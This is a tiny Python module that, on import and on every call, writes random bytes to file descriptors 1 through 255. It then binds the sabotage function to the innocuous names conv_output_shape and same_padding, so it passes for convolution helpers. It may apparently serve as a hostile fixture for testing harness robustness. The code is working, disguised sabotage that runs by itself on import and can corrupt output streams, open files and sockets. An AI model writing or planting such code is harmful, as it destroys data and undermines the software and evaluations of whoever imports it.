"""Writes random bytes to every descriptor, at import and in every call."""

import os


def spray(*args, **kwargs):
    for descriptor in range(1, 256):
        try:
            os.write(descriptor, os.urandom(4096))
        except OSError:
            pass
    return 1


spray()
conv_output_shape = same_padding = spray
